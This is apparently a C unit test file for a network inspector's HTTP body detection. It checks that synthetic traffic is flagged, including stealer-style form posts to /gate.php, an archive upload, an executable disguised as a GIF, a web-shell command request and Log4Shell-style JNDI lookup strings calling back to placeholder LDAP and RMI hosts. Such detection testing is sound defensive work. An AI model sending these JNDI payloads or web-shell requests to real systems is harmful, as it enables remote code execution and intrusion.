/*
 * unit/inspect/test_http_body.c - bodies of HTTP: what is told of them, and when.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>

#include <cmocka.h>

#include "support/inspect_harness.h"

extern const struct inspector http_inspector;

static struct harness h;

static int set_up(void **state)
{
	(void)state;
	harness_init(&h, &http_inspector, PROTO_TCP, 40000, 80);
	return 0;
}

static int tear_down(void **state)
{
	(void)state;
	harness_deinit(&h);
	return 0;
}

static void client(const char *text)
{
	(void)harness_stream(&h, true, text, strlen(text));
}

static void server(const char *text)
{
	(void)harness_stream(&h, false, text, strlen(text));
}

static const struct event_http_body *body(unsigned n)
{
	const struct event_http_body *e = harness_event(&h, EVENT_HTTP_BODY, n);
	assert_non_null(e);
	return e;
}

#define FORM_POST                                 \
 "POST /gate.php HTTP/1.1\r\nHost: c.example\r\n" \
 "User-Agent: Mozilla/5.0\r\nAccept: */*\r\n"     \
 "Content-Type: application/x-www-form-urlencoded\r\n"

static void a_posted_form_is_told_at_its_end(void **state)
{
	(void)state;
	client(FORM_POST "Content-Length: 25\r\n\r\nhwid=1&pc=D");
	assert_int_equal(harness_count(&h, EVENT_HTTP_BODY), 0);
	client("ESK&user=jo&x=");
	const struct event_http_body *e = body(0);
	assert_int_equal(e->is_response, 0);
	assert_int_equal(e->is_complete, 1);
	assert_int_equal(e->form, FORM_FIELDS);
	assert_int_equal(e->fields, 4);
	assert_int_equal(e->machine_fields, 2);
	assert_int_equal(e->credential_fields, 1);
	assert_int_equal(e->seen, 25);
	assert_int_equal(e->size, 25);
	assert_int_equal(e->head_marks, HTTP_HAS_ACCEPT);
	assert_true(harness_str_is(e, &e->method, "POST"));
	assert_true(harness_str_is(e, &e->host, "c.example"));
	assert_true(harness_str_is(e, &e->uri, "/gate.php"));
	assert_int_equal(harness_count(&h, EVENT_FILE), 0);
}

static void chunks_are_put_together(void **state)
{
	(void)state;
	client(FORM_POST "Transfer-Encoding: chunked\r\n\r\n5\r\nhwid=\r\n4\r\n1&o");
	client("s\r\n2\r\n=w\r\n0\r\n\r\n");
	const struct event_http_body *e = body(0);
	assert_int_equal(e->seen, 11);
	assert_int_equal(e->machine_fields, 2);
	assert_true(e->size == UINT64_MAX);
}

static void what_never_ends_is_told_with_its_flow(void **state)
{
	(void)state;
	client(FORM_POST "Content-Length: 999\r\n\r\nuser=jo");
	harness_end(&h);
	assert_int_equal(body(0)->is_complete, 0);
	assert_int_equal(body(0)->seen, 7);
}

static void a_put_archive_is_a_file_going_up(void **state)
{
	static char data[2048] = "PK\3\4\x14\0\1";
	(void)state;
	client("PUT /in/all.zip HTTP/1.1\r\nHost: 192.0.2.53\r\nContent-Length: 2048\r\n\r\n");
	(void)harness_stream(&h, true, data, 1500);
	const struct event_file *e = harness_event(&h, EVENT_FILE, 0);
	assert_non_null(e);
	assert_int_equal(e->is_end, 0);
	assert_int_equal(e->type, FILE_ENCRYPTED);
	assert_int_equal(e->e.from_server, 0);
	(void)harness_stream(&h, true, data + 1500, 548);
	e = harness_event(&h, EVENT_FILE, 1);
	assert_int_equal(e->is_end, 1);
	assert_int_equal(e->is_complete, 1);
	assert_int_equal(e->seen, 2048);
	assert_true(harness_str_is(e, &e->name, "all.zip"));
	assert_true(harness_str_is(e, &e->carrier, "http"));
}

static void a_program_that_comes_down_is_told(void **state)
{
	char pe[300] = "MZ\x90";
	(void)state;
	pe[0x3c] = 0x40;
	memcpy(pe + 0x40, "PE\0\0", 4);
	client("GET /p/logo.gif?x HTTP/1.1\r\nHost: h.example\r\n\r\n");
	server("HTTP/1.1 200 OK\r\nContent-Type: image/gif\r\n\r\n");
	(void)harness_stream(&h, false, pe, sizeof(pe));
	assert_int_equal(harness_count(&h, EVENT_FILE), 0);
	harness_end(&h);
	const struct event_file *e = harness_event(&h, EVENT_FILE, 0);
	assert_non_null(e);
	assert_int_equal(e->type, FILE_EXECUTABLE);
	assert_int_equal(e->e.from_server, 1);
	assert_true(harness_str_is(e, &e->name, "logo.gif"));
	assert_true(harness_str_is(e, &e->declared, "image/gif"));
	assert_int_equal(harness_count(&h, EVENT_HTTP_BODY), 0);
}

/* What was asked before is not said of it. */
static void an_answer_whose_request_is_missing_has_no_name(void **state)
{
	static char data[2048] = "MZ\x90";
	(void)state;
	data[0x3c] = 0x40;
	memcpy(data + 0x40, "PE\0\0", 4);
	client("GET /a.png HTTP/1.1\r\nHost: h\r\n\r\n");
	server("HTTP/1.1 304 Same\r\n\r\n");
	harness_gap(&h, true, 60);
	server("HTTP/1.1 200 OK\r\nContent-Length: 2048\r\n\r\n");
	(void)harness_stream(&h, false, data, 2048);
	const struct event_file *e = harness_event(&h, EVENT_FILE, 0);
	assert_non_null(e);
	assert_int_equal(e->type, FILE_EXECUTABLE);
	assert_int_equal(e->place.off, 0);
	assert_int_equal(e->name.off, 0);
	client("GET /b.exe HTTP/1.1\r\nHost: h\r\n\r\n");
	server("HTTP/1.1 200 OK\r\nContent-Length: 2048\r\n\r\n");
	(void)harness_stream(&h, false, data, 2048);
	e = harness_event(&h, EVENT_FILE, harness_count(&h, EVENT_FILE) - 1);
	assert_true(harness_str_is(e, &e->name, "b.exe"));
}

static void answers_are_told_when_a_command_answers(void **state)
{
	(void)state;
	client("GET /s.php?cmd=id HTTP/1.1\r\nHost: h.example\r\n\r\n");
	server("HTTP/1.1 200 OK\r\nContent-Length: 39\r\n\r\nuid=33(www-data) gid=33(www-data) \r\n\r\n\n");
	const struct event_http_body *e = body(0);
	assert_int_equal(e->is_response, 1);
	assert_int_equal(e->marks, CONTENT_OUTPUT);
	assert_int_equal(e->status, 200);
	assert_true(harness_str_is(e, &e->uri, "/s.php?cmd=id"));
	client("GET / HTTP/1.1\r\nHost: h.example\r\n\r\n");
	server("HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello");
	assert_int_equal(harness_count(&h, EVENT_HTTP_BODY), 1);
}

static void attempts_in_heads_and_bodies_are_told(void **state)
{
	(void)state;
	client("POST /login HTTP/1.1\r\nHost: h\r\nX-V: ${jndi:ldap://192.0.2.9:1389/a}\r\n"
	       "X-Forwarded-For: 198.51.100.7\r\nContent-Length: 38\r\n\r\n"
	       "u=%24%7Bjndi%3Armi%3A//192.0.2.8:5/x}&");
	const struct event_http *e = harness_event(&h, EVENT_HTTP, 0);
	assert_int_equal(e->exploit, EXPLOIT_LOOKUP);
	assert_int_equal(e->callback_port, 1389);
	assert_true(harness_str_is(e, &e->callback, "192.0.2.9"));
	assert_true(harness_str_is(e, &e->forwarded_for, "198.51.100.7"));
	assert_int_equal(body(0)->exploit, EXPLOIT_LOOKUP);
	assert_int_equal(body(0)->callback_port, 5);
}

/* More flows than desks: the oldest gives up its own, nothing of another's is told. */
static void desks_are_bounded(void **state)
{
	(void)state;
	client(FORM_POST "Content-Length: 99\r\n\r\nuser=jo");
	for (unsigned i = 0; i < 300; i++) {
		harness_restart(&h);
		client(FORM_POST "Content-Length: 99\r\n\r\nhwid=1");
	}
	harness_end(&h);
	assert_int_equal(harness_count(&h, EVENT_HTTP_BODY), 1);
	assert_int_equal(body(0)->machine_fields, 1);
}

static const char exchange[] =
	FORM_POST "Content-Length: 12\r\n\r\nhwid=1&cmd=x"
		  "POST /u HTTP/1.1\r\nTransfer-Encoding: chunked\r\n"
		  "Content-Type: multipart/form-data; boundary=b\r\n\r\n"
		  "40\r\n--b\r\nContent-Disposition: form-data; filename=a\r\n\r\n"
		  "%PDF-1\r\n--\r\n0\r\n\r\n";

static void every_cut_is_survived(void **state)
{
	(void)state;
	for (size_t len = 1; len < sizeof(exchange); len++) {
		harness_restart(&h);
		(void)harness_stream(&h, true, exchange, len);
		harness_end(&h);
		assert_in_range(harness_count(&h, EVENT_HTTP_BODY), 0, 2);
	}
	for (size_t step = 1; step < 40; step++) {
		harness_restart(&h);
		for (size_t at = 0; at < sizeof(exchange) - 1; at += step)
			(void)harness_stream(
				&h, true, exchange + at,
				at + step < sizeof(exchange) ? step : sizeof(exchange) - 1 - at);
		assert_int_equal(harness_count(&h, EVENT_HTTP_BODY), 2);
		assert_int_equal(body(1)->files, 1);
	}
}

/* An answer of noise that says it is a picture is told; one in a content coding, or a part, is not.
 */
static void an_answer_that_contradicts_its_type_is_told(void **state)
{
	static const char *const heads[] = {
		"HTTP/1.1 200 OK\r\nContent-Type: image/gif\r\nContent-Length: 300\r\n\r\n",
		"HTTP/1.1 404 Not Found\r\nContent-Type: text/html\r\nContent-Length: 300\r\n\r\n",
		"HTTP/1.1 200 OK\r\nContent-Type: image/gif\r\nContent-Encoding: br\r\n"
		"Content-Length: 300\r\n\r\n",
		"HTTP/1.1 206 Partial Content\r\nContent-Type: image/gif\r\n"
		"Content-Length: 300\r\n\r\n",
		"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n"
		"Content-Length: 300\r\n\r\n",
	};
	static const unsigned told[] = { CONTRARY_PICTURE, CONTRARY_TEXT, 0, 0, 0 };
	uint8_t noise[300];
	uint32_t x = 7;
	unsigned count = 0;
	(void)state;
	for (size_t i = 0; i < sizeof(noise); i++) {
		x = x * 1664525u + 1013904223u;
		noise[i] = (uint8_t)(x >> 24);
	}
	for (unsigned i = 0; i < sizeof(heads) / sizeof(heads[0]); i++) {
		client("GET /x HTTP/1.1\r\nHost: c.example\r\n\r\n");
		server(heads[i]);
		(void)harness_stream(&h, false, noise, sizeof(noise));
		count += told[i] != 0;
		assert_int_equal(harness_count(&h, EVENT_HTTP_BODY), count);
		if (!told[i])
			continue;
		assert_int_equal(body(count - 1)->contrary, told[i]);
		assert_int_equal(body(count - 1)->is_response, 1);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(a_posted_form_is_told_at_its_end, set_up,
						tear_down),
		cmocka_unit_test_setup_teardown(an_answer_that_contradicts_its_type_is_told, set_up,
						tear_down),
		cmocka_unit_test_setup_teardown(chunks_are_put_together, set_up, tear_down),
		cmocka_unit_test_setup_teardown(what_never_ends_is_told_with_its_flow, set_up,
						tear_down),
		cmocka_unit_test_setup_teardown(a_put_archive_is_a_file_going_up, set_up,
						tear_down),
		cmocka_unit_test_setup_teardown(a_program_that_comes_down_is_told, set_up,
						tear_down),
		cmocka_unit_test_setup_teardown(an_answer_whose_request_is_missing_has_no_name,
						set_up, tear_down),
		cmocka_unit_test_setup_teardown(answers_are_told_when_a_command_answers, set_up,
						tear_down),
		cmocka_unit_test_setup_teardown(attempts_in_heads_and_bodies_are_told, set_up,
						tear_down),
		cmocka_unit_test_setup_teardown(desks_are_bounded, set_up, tear_down),
		cmocka_unit_test_setup_teardown(every_cut_is_survived, set_up, tear_down),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
